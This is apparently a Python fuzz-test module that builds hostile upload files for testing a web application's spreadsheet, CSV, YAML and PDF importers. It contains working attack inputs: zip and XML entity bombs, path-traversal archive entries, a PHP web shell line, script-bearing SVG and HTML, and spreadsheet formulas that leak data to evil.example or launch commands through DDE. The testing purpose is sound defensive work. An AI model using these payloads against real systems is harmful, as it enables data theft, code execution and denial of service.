"""The hostile files every importer and upload is tried with.

The small text ones live in tests/fuzz/corpus/; the binary and the large ones are built here at
test time, so that no zip bomb is ever committed. `python -m tests.fuzz.hostile_files DIR`
writes them all to DIR for trying by hand.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

TEXT_FILES = Path(__file__).parent / "corpus"
GIB = 1 << 30
BOMB_BLOCK = 64 << 20  # compressed once, repeated: 2 GiB of output costs 2 MB of file
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1)",
)


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus: the name it is sent under, its bytes, and what it tries."""

    name: str
    content: bytes
    attack: str

    def __str__(self) -> str:
        return self.name


# Zip files written by hand: zipfile cannot store data that was compressed beforehand.


@dataclass(frozen=True)
class Member:
    name: str
    data: bytes  # as stored in the archive
    crc: int
    size: int  # once unpacked
    method: int = zipfile.ZIP_DEFLATED


def deflated(name: str, content: bytes) -> Member:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(content) + compressor.flush()
    return Member(name, data, zlib.crc32(content), len(content))


def stored(name: str, content: bytes) -> Member:
    return Member(name, content, zlib.crc32(content), len(content), zipfile.ZIP_STORED)


def bomb(name: str, head: bytes, filler: bytes, tail: bytes, size: int = 2 * GIB) -> Member:
    """`head`, then `filler` repeated to about `size` bytes, then `tail`, deflated.

    One block of filler is compressed and flushed fully, so that the same compressed bytes can
    be repeated: each copy decodes on its own. The CRC is the real one, so the bomb is a valid
    archive that only a reader unpacking it all would notice.
    """
    block = filler * (BOMB_BLOCK // len(filler))
    copies = max(1, (size - len(head) - len(tail)) // len(block))
    parts, crc = [], zlib.crc32(head)
    for piece in (head, block):
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        parts.append(compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH))
    for _copy in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    ending = compressor.compress(tail) + compressor.flush()
    data = parts[0] + parts[1] * copies + ending
    return Member(name, data, crc, len(head) + copies * len(block) + len(tail))


def zip_of(members: Iterable[Member]) -> bytes:
    """A plain (not ZIP64) archive: every member must unpack to less than 4 GiB."""
    out, directory, count = io.BytesIO(), io.BytesIO(), 0
    for member in members:
        name = member.name.encode()
        offset = out.tell()
        common = struct.pack(
            "<HHHHHIIIH",
            20,
            0,
            member.method,
            0,
            0x21,
            member.crc,
            len(member.data),
            member.size,
            len(name),
        )
        out.write(b"PK\x03\x04" + common + struct.pack("<H", 0) + name + member.data)
        directory.write(
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + common
            + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset)
            + name
        )
        count += 1
    start = out.tell()
    out.write(directory.getvalue())
    out.write(
        b"PK\x05\x06"
        + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory.getvalue()), start, 0)
    )
    return out.getvalue()


def members_of(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        return {name: source.read(name) for name in source.namelist()}


def replaced(archive: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The archive with members replaced (or removed, for None), all else kept."""
    members = {**members_of(archive), **changes}
    return zip_of(deflated(name, data) for name, data in members.items() if data is not None)


# Sheets


def xlsx(rows: Iterable[Iterable[object]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHARED = "xl/sharedStrings.xml"
TYPES = "[Content_Types].xml"
SPREADSHEET = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def sheet_xml(body: bytes, dimension: bytes = b"A1") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
        + SPREADSHEET
        + b'><dimension ref="'
        + dimension
        + b'"/><sheetData>'
        + body
        + b"</sheetData></worksheet>"
    )


def inline_row(number: int, *texts: str) -> bytes:
    cells = b"".join(
        f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()
        for i, text in enumerate(texts)
    )
    return f'<row r="{number}">'.encode() + cells + b"</row>"


def answers_sheet() -> bytes:
    return xlsx([["indikator", "tingkat"], [1, 3], [2, 4]])


def xlsx_bomb() -> bytes:
    """A valid workbook whose shared strings unpack to 2 GiB; its first cell is the big one."""
    shared = bomb(
        SHARED,
        b'<?xml version="1.0" encoding="UTF-8"?><sst ' + SPREADSHEET + b"><si><t>",
        b"A",
        b"</t></si><si><t>tingkat</t></si></sst>",
    )
    cells = (
        b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        b'<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>3</v></c></row>'
    )
    parts = members_of(answers_sheet())
    parts[SHEET] = sheet_xml(cells, b"A1:B2")
    parts[TYPES] = parts[TYPES].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    return zip_of([*(deflated(name, data) for name, data in parts.items()), shared])


def docx_bomb() -> bytes:
    document = bomb(
        "word/document.xml",
        b'<?xml version="1.0"?><document><body><p>',
        b"SPBE ",
        b"</p></body></document>",
    )
    return zip_of(
        [
            deflated(TYPES, b'<?xml version="1.0"?><Types/>'),
            deflated("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            document,
        ]
    )


def zip_bomb() -> bytes:
    return zip_of([bomb("data.bin", b"", b"\0", b"")])


def nested_bomb() -> bytes:
    """Four zips inside a zip, each a bomb of its own: 8 GiB two levels down."""
    inner = zip_of([bomb("data.bin", b"", b"\0", b"", GIB)])
    return zip_of(stored(f"lapisan-{n}.zip", inner) for n in range(4))


def traversal_zip() -> bytes:
    return zip_of(
        [
            deflated("../../../../tmp/tera-fuzz-escaped.txt", b"keluar dari folder"),
            deflated("/etc/cron.d/tera-fuzz", b"* * * * * root id"),
            deflated("..\\..\\windows\\system32\\evil.dll", b"MZ"),
            deflated(TYPES, b'<?xml version="1.0"?><Types/>'),
            deflated("xl/../../escape.xml", b"<x/>"),
        ]
    )


def huge_dimension_xlsx() -> bytes:
    """The sheet claims every cell Excel allows, and has one at the far corner."""
    body = inline_row(1, "indikator", "tingkat") + (
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>3</t></is></c></row>'
    )
    return replaced(answers_sheet(), {SHEET: sheet_xml(body, b"A1:XFD1048576"), SHARED: None})


def external_link_xlsx() -> bytes:
    """Formulas reading another workbook on a network share, and a DDE call."""
    body = (
        inline_row(1, "indikator", "tingkat")
        + b'<row r="2"><c r="A2"><f>[1]Sheet1!A1</f><v>1</v></c>'
        + b"<c r=\"B2\"><f>'\\\\evil.example\\share\\[data.xlsx]Sheet1'!B2</f><v>3</v></c></row>"
        + b'<row r="3"><c r="A3"><v>2</v></c><c r="B3"><f>cmd|\' /C calc\'!A0</f></c></row>'
    )
    link = (
        b'<?xml version="1.0"?><externalLink '
        + SPREADSHEET
        + b'><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/></externalLink>'
    )
    return replaced(
        answers_sheet(),
        {
            SHEET: sheet_xml(body, b"A1:B3"),
            SHARED: None,
            "xl/externalLinks/externalLink1.xml": link,
        },
    )


def formula_xlsx() -> bytes:
    return xlsx(
        [
            ["indikator", "tingkat", "catatan", "biaya", "opd", "username", "peran"],
            *(
                [number, "=1+2", formula, '=HYPERLINK("http://evil.example")', formula, "", ""]
                for number, formula in enumerate(FORMULAS, start=1)
            ),
        ]
    )


def invalid_xml_xlsx() -> bytes:
    return replaced(answers_sheet(), {SHEET: b"<worksheet><sheetData><row><c>1</row"})


def missing_string_xlsx() -> bytes:
    """Cells pointing at shared strings that the workbook does not have."""
    body = b'<row r="1"><c r="A1" t="s"><v>7</v></c><c r="B1" t="s"><v>99999</v></c></row>'
    return replaced(answers_sheet(), {SHEET: sheet_xml(body, b"A1:B1")})


def billion_laughs_sheet() -> bytes:
    """An XML entity bomb inside the worksheet."""
    entities = b'<!ENTITY a "aaaaaaaaaa">' + b"".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">'.encode() for n in range(9)
    )
    return replaced(
        answers_sheet(),
        {
            SHEET: b'<?xml version="1.0"?><!DOCTYPE worksheet ['
            + entities
            + b"]>"
            + sheet_xml(inline_row(1, "&j;", "tingkat")).split(b"?>", 1)[1]
        },
    )


# Everything else


def random_bytes(size: int, seed: int = 6) -> bytes:
    state, out = seed, bytearray()
    while len(out) < size:  # a small fixed generator: the same garbage on every run
        state = (state * 6364136223846793005 + 1442695040888963407) % (1 << 64)
        out += state.to_bytes(8, "little")
    return bytes(out[:size])


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/periods')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
PHP = b"<?php system($_GET['c']); ?>"


def deep_yaml(depth: int = 50_000) -> bytes:
    return b"schema: 1\nid: " + b"[" * depth + b"]" * depth + b"\n"


def generated() -> list[Hostile]:
    answers = answers_sheet()
    return [
        Hostile("laporan.pdf", EXE, "a Windows program named as a PDF"),
        Hostile("foto.png", HTML, "an HTML page with a script named as an image"),
        Hostile("grafik.png", SVG, "an SVG with a script named as a PNG"),
        Hostile("grafik.svg", SVG, "an SVG with a script, under its own name"),
        Hostile("data.xlsx", PHP, "a PHP script named as a workbook"),
        Hostile("data.csv", PHP, "a PHP script named as a CSV sheet"),
        Hostile("program.csv", EXE, "a Windows program named as a CSV sheet"),
        Hostile("halaman.xlsx", HTML, "an HTML page named as a workbook"),
        Hostile("polyglot.pdf", b"%PDF-1.4\n" + HTML, "a PDF header in front of an HTML page"),
        Hostile("gambar.pdf", members_of(answers)[TYPES], "XML named as a PDF"),
        Hostile("bom.zip", zip_bomb(), "a 2 MB zip that unpacks to 2 GiB"),
        Hostile("bom.docx", docx_bomb(), "a Word document that unpacks to 2 GiB"),
        Hostile("bom.xlsx", xlsx_bomb(), "a workbook whose shared strings unpack to 2 GiB"),
        Hostile("bom-bertingkat.zip", nested_bomb(), "zips of zip bombs"),
        Hostile("jalur.zip", traversal_zip(), "entries that climb out of any folder"),
        Hostile("jalur.xlsx", traversal_zip(), "path traversal entries named as a workbook"),
        Hostile("terpotong.xlsx", answers[: len(answers) // 2], "a workbook cut in half"),
        Hostile(
            "jenis-salah.xlsx",
            replaced(answers, {TYPES: b"<Types>bukan</Typ"}),
            "broken content types",
        ),
        Hostile(
            "tanpa-lembar.xlsx", replaced(answers, {SHEET: None}), "the worksheet part is missing"
        ),
        Hostile("xml-rusak.xlsx", invalid_xml_xlsx(), "a worksheet that is not well-formed XML"),
        Hostile("string-hilang.xlsx", missing_string_xlsx(), "cells pointing nowhere"),
        Hostile("dimensi.xlsx", huge_dimension_xlsx(), "a sheet claiming 17 billion cells"),
        Hostile("tautan-luar.xlsx", external_link_xlsx(), "external links and a DDE formula"),
        Hostile("rumus.xlsx", formula_xlsx(), "formula injection in every text cell"),
        Hostile("entitas.xlsx", billion_laughs_sheet(), "an XML entity bomb in the worksheet"),
        Hostile("bersarang.yaml", deep_yaml(), "YAML nested 50,000 levels deep"),
        Hostile(
            "teks-raksasa.yaml",
            b"schema: 1\nid: spbe\nname: " + b"x" * (8 << 20) + b"\n",
            "an 8 MB YAML string",
        ),
        Hostile("acak.csv", random_bytes(64 << 10), "64 KB of binary garbage"),
        Hostile("nul.csv", b"indikator,tingkat\n1,\x003\n2\x00,4\n", "NUL bytes in a CSV"),
        Hostile(
            "sel-raksasa.csv", b"indikator,tingkat\n1," + b"9" * (1 << 20) + b"\n", "1 MB cell"
        ),
        Hostile(
            "lebar.csv",
            b",".join([b"indikator", b"tingkat", *(b"k%d" % n for n in range(100_000))])
            + b"\n1,3\n",
            "100,000 columns",
        ),
        Hostile(
            "utf16.csv",
            "indikator,tingkat\n1,3\n".encode("utf-16"),
            "UTF-16 with a byte order mark",
        ),
        Hostile("bom-utf8.csv", b"\xef\xbb\xbfindikator,tingkat\n1,3\n", "a UTF-8 byte order mark"),
        Hostile("kosong.csv", b"", "an empty CSV"),
        Hostile("kosong.xlsx", b"", "an empty workbook"),
        Hostile("kosong.pdf", b"", "an empty PDF"),
        Hostile("kosong.yaml", b"", "an empty YAML file"),
        Hostile("satu.csv", b"\n", "a one-byte CSV"),
        Hostile("satu.xlsx", b"P", "a one-byte workbook"),
        Hostile("satu.yaml", b":", "a one-byte YAML file"),
        Hostile("tingkat.txt", b"indikator,tingkat\n1,3\n", "a good sheet with a .txt name"),
        Hostile("lembar.xls", answers, "a workbook named as Excel 97"),
        Hostile("lembar.csv", answers, "a workbook named as a CSV"),
        Hostile("tabel.pdf", b"indikator,tingkat\n1,3\n", "a CSV named as a PDF"),
        Hostile(
            "nul-nama.csv",
            b"opd,singkatan,username,nama,email,peran\nDinas\x00Kesehatan,Dinkes,,,,\n",
            "a NUL inside a well-formed people sheet (PostgreSQL refuses to store it)",
        ),
        Hostile(
            "hasil-sel-raksasa.csv",
            b"year,instansi,kind,province,index\n2024," + b"K" * (1 << 20) + b",kota,Aceh,2.5\n",
            "a 1 MB instansi name in a well-formed results sheet",
        ),
    ]


def text_files() -> list[Hostile]:
    return [
        Hostile(path.name, path.read_bytes(), "from tests/fuzz/corpus")
        for path in sorted(TEXT_FILES.iterdir())
    ]


def corpus() -> list[Hostile]:
    return [*generated(), *text_files()]


def write(directory: Path, files: Iterable[Hostile] | None = None) -> list[Path]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for hostile in corpus() if files is None else files:
        path = directory / hostile.name
        path.write_bytes(hostile.content)
        paths.append(path)
    return paths


if __name__ == "__main__":
    for path in write(Path(sys.argv[1] if len(sys.argv) > 1 else os.getcwd())):
        print(path)
